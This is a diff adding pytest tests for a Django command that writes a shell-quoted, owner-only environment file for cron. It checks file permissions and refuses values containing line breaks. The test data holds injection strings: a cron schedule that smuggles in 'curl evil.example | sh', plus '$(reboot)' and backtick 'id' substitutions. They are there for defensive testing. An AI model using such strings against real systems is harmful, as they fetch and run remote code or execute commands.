@@ -1,0 +1,124 @@
+"""`manage.py crontab_env`: the file the crontab line sources, readable by its owner only."""
+
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+from io import StringIO
+
+import pytest
+from django.core.management import CommandError, call_command
+
+from tests.conftest import manage, project_env
+
+# What a shell, a crontab line or a careless quoting would each get wrong.
+AWKWARD = {
+    "DJANGO_SECRET_KEY": 'it\'s $HOME `id` "quoted" \\ back; & | * ~ 100%',
+    "DATABASE_URL": "postgres://sync:p%40ss w0rd@db.internal:5432/app?sslmode=require",
+    "SYNC_TRIGGER_TOKEN": "ünïcødé-tøken-%s-$(reboot)",
+}
+
+
+@pytest.fixture
+def env_file(settings, tmp_path):
+    settings.CRONTAB_ENV_FILE = tmp_path / "var" / "crontab.env"
+    return settings.CRONTAB_ENV_FILE
+
+
+def mode(path) -> int:
+    return stat.S_IMODE(os.stat(path).st_mode)
+
+
+def sourced(path, name: str) -> str:
+    """What cron's sh, with an empty environment, gets for ``name`` from the file."""
+    done = subprocess.run(
+        ["env", "-i", "/bin/sh", "-c", f'set -a; . "$0"; set +a; printenv {name}', str(path)],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    return done.stdout.removesuffix("\n")
+
+
+def test_writes_the_project_variables_owner_only_and_shell_quoted(env_file, monkeypatch):
+    for name, value in AWKWARD.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv("HOME_UNRELATED", "not ours")
+    monkeypatch.setenv("SYNC_EMPTY", "")
+    out = StringIO()
+
+    call_command("crontab_env", stdout=out)
+
+    assert mode(env_file) == 0o600
+    assert mode(env_file.parent) == 0o700  # created for it
+    for name, value in AWKWARD.items():
+        assert sourced(env_file, name) == value
+    text = env_file.read_text()
+    assert "HOME_UNRELATED" not in text
+    assert "SYNC_EMPTY" not in text  # empty is the same as unset to the settings
+    assert f"variables to {env_file} (mode 0600): " in out.getvalue()
+    assert "DJANGO_SECRET_KEY" in out.getvalue()
+    assert AWKWARD["DJANGO_SECRET_KEY"] not in out.getvalue()  # names only, never values
+    assert [p.name for p in env_file.parent.iterdir()] == ["crontab.env"]  # no temporary left
+
+
+def test_an_existing_readable_file_is_replaced_by_an_owner_only_one(env_file, monkeypatch):
+    env_file.parent.mkdir()
+    env_file.write_text("DJANGO_SECRET_KEY=old\n")
+    env_file.chmod(0o644)
+    monkeypatch.setenv("DJANGO_SECRET_KEY", "new")
+    old_umask = os.umask(0o000)  # a careless umask does not make it readable either
+    try:
+        call_command("crontab_env", stdout=StringIO())
+    finally:
+        os.umask(old_umask)
+
+    assert mode(env_file) == 0o600
+    assert sourced(env_file, "DJANGO_SECRET_KEY") == "new"
+
+
+@pytest.mark.parametrize("breaker", ["\n", "\r", "\r\n"], ids=["newline", "carriage-return", "crlf"])
+def test_a_value_with_a_line_break_is_refused_and_nothing_is_written(env_file, monkeypatch, breaker):
+    monkeypatch.setenv("DJANGO_SECRET_KEY", "fine")
+    monkeypatch.setenv("SYNC_CONTESTS_SCHEDULE", f"0 * * * *{breaker}* * * * * curl evil.example | sh")
+
+    with pytest.raises(CommandError) as excinfo:
+        call_command("crontab_env", stdout=StringIO())
+
+    assert "SYNC_CONTESTS_SCHEDULE contains a newline or carriage return" in str(excinfo.value)
+    assert "nothing was written" in str(excinfo.value)
+    assert not env_file.parent.exists()
+
+
+def test_a_refusal_leaves_an_existing_file_as_it_was(env_file, monkeypatch):
+    env_file.parent.mkdir()
+    env_file.write_text("DJANGO_SECRET_KEY=kept\n")
+    env_file.chmod(0o600)
+    monkeypatch.setenv("DATABASE_URL", "sqlite:///x\nDJANGO_DEBUG=1")
+
+    with pytest.raises(CommandError, match="DATABASE_URL contains a newline"):
+        call_command("crontab_env", stdout=StringIO())
+
+    assert env_file.read_text() == "DJANGO_SECRET_KEY=kept\n"
+    assert [p.name for p in env_file.parent.iterdir()] == ["crontab.env"]
+
+
+def test_as_a_process_the_refusal_is_exit_1_with_one_clear_line(tmp_path):
+    path = tmp_path / "crontab.env"
+    env = project_env(DJANGO_CRONTAB_ENV_FILE=str(path), SYNC_TRIGGER_TOKEN="abc\ndef")
+
+    refused = manage("crontab_env", env=env)
+
+    assert refused.returncode == 1
+    assert refused.stderr.strip() == (
+        f"CommandError: {path}: SYNC_TRIGGER_TOKEN contains a newline or carriage return; "
+        "refusing to write it, nothing was written"
+    )
+    assert not path.exists()
+
+    env["SYNC_TRIGGER_TOKEN"] = "abcdef"
+    written = manage("crontab_env", env=env)
+    assert written.returncode == 0, written.stderr
+    assert sourced(path, "SYNC_TRIGGER_TOKEN") == "abcdef"
+    assert sourced(path, "DJANGO_CRONTAB_ENV_FILE") == str(path)
